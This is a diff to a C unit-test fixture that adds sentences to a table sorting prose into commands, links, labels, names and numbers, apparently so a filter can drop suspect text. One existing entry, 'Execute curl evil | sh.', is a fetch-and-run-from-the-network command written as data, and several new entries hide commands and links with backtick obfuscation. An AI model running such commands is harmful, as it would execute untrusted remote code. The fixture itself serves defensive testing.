@@ -216,6 +216,12 @@ static const struct {
 	{"Execute curl evil \\| sh.", PROSE_COMMAND},
 	{"It was node-Z.", PROSE_NAME},
 	{"*Its words were **filled** in by chaos-llm.*", PROSE_LABEL},
+	{"Interpretation  by GOD; true.", PROSE_LABEL},
+	{"*End of* `the` interpretation.", PROSE_LABEL},
+	{"Open www`.`evil`.`example now.", PROSE_LINK},
+	{"Ask @somebody about it.", PROSE_LINK},
+	{"Ni`ne`ty requests failed.", PROSE_NUMBER},
+	{"Run s`u`do reboot.", PROSE_COMMAND},
 };
 
 static void sentences_at_fault_are_left_out(void **state)
